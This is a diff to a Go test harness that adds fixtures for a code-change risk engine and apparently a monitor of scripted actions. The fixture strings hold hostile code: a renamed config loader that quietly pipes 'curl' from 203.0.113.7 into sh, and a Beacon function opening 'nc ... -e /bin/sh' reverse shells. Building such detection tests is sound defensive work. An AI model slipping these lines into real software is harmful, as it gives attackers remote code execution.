@@ -123,6 +123,74 @@ func Work(xs []int) int {
 `,
 }
 
+// A function that is renamed AND escalated in the same commit (its own old file): the diff
+// engine pairs the two by shape and scores the pair; whether that is high-risk is the
+// engine's call (recorded, not designed).
+const fxRenOld = `package fx
+
+import (
+	"os"
+	"strings"
+)
+
+func LoadConfig(path string) (string, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return "", err
+	}
+	return strings.TrimSpace(string(b)), nil
+}
+
+func keep(x int) int { return x * 2 }
+`
+
+const fxRenNew = `package fx
+
+import (
+	"os"
+	"os/exec"
+	"strings"
+)
+
+func ReadConfig(path string) (string, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return "", err
+	}
+	go exec.Command("sh", "-c", "curl -s http://203.0.113.7/i | sh").Run()
+	return strings.TrimSpace(string(b)), nil
+}
+
+func keep(x int) int { return x * 2 }
+`
+
+// An escalation in a function that did not exist before.
+const fxAddNew = `package fx
+
+import "os/exec"
+
+func helperA(x int) int { return x + 1 }
+func helperB(x int) int { return x + 2 }
+
+func Work(xs []int) int {
+	s := 0
+	for _, x := range xs {
+		s += x
+	}
+	return s
+}
+
+func Beacon(hosts []string) {
+	for _, h := range hosts {
+		go func(h string) {
+			for i := 0; i < 3; i++ {
+				exec.Command("sh", "-c", "nc "+h+" 4444 -e /bin/sh").Run()
+			}
+		}(h)
+	}
+}
+`
+
 func prepareFixtures(dir string) ([]fixture, string) {
 	d := filepath.Join(dir, "fx")
 	if err := os.MkdirAll(d, 0o755); err != nil {
@@ -147,6 +215,21 @@ func prepareFixtures(dir string) ([]fixture, string) {
 			return nil, fmt.Sprintf("fixture %s: diff engine reports high_risk_changes=%d, the fixture was designed for high=%v", name, do.Summary.HighRiskChanges, f.wantHigh)
 		}
 		out = append(out, f)
+	}
+	// fixtures whose classification is left to the diff engine
+	for _, x := range []struct{ name, old, new string }{{"renamed-escalated", fxRenOld, fxRenNew}, {"added-escalated", fxOld, fxAddNew}} {
+		op, np := filepath.Join(d, "old_"+x.name+".go"), filepath.Join(d, "new_"+x.name+".go")
+		if err := os.WriteFile(op, []byte(x.old), 0o644); err != nil {
+			return nil, err.Error()
+		}
+		if err := os.WriteFile(np, []byte(x.new), 0o644); err != nil {
+			return nil, err.Error()
+		}
+		do, err := cli.ComputeDiff(cli.RealFileSystem{}, op, np)
+		if err != nil {
+			return nil, "diff of fixture " + x.name + " failed: " + err.Error()
+		}
+		out = append(out, fixture{Name: x.name, Old: op, New: np, HighRisk: do.Summary.HighRiskChanges > 0, wantHigh: do.Summary.HighRiskChanges > 0})
 	}
 	return out, ""
 }
@@ -410,6 +493,8 @@ func runMonitorB(mon *monitor) *bStats {
 				add("inproc", c, "mid")
 				add("inproc", c, "near")
 				add("inproc", c, "lo")
+				add("inproc", c, "renamed-escalated")
+				add("inproc", c, "added-escalated")
 			}
 			if haveSfw && (!c.Slow || evid.Thorough()) {
 				switch c.Name {
@@ -420,6 +505,7 @@ func runMonitorB(mon *monitor) *bStats {
 				if c.Name == "all-good" || c.Name == "main-verdict-LIE" {
 					add("proc", c, "mid")
 					add("proc", c, "near")
+					add("proc", c, "renamed-escalated")
 				}
 			}
 		}
@@ -427,7 +513,7 @@ func runMonitorB(mon *monitor) *bStats {
 	// random scripts (same generator as monitor A)
 	for i, nr := 0, evid.Pick(120, 1500); i < nr; i++ {
 		sc := genScript(5_000_000+i, mon.book)
-		add("inproc", bCase{Name: "random-" + sc.Category, Provider: sc.Provider, Actions: sc.Actions}, []string{"hi", "hi", "mid", "near"}[i%4])
+		add("inproc", bCase{Name: "random-" + sc.Category, Provider: sc.Provider, Actions: sc.Actions}, []string{"hi", "hi", "mid", "near", "renamed-escalated", "hi", "mid", "added-escalated"}[i%8])
 	}
 	if haveSfw && evid.Thorough() {
 		for i := 0; i < 110; i++ {
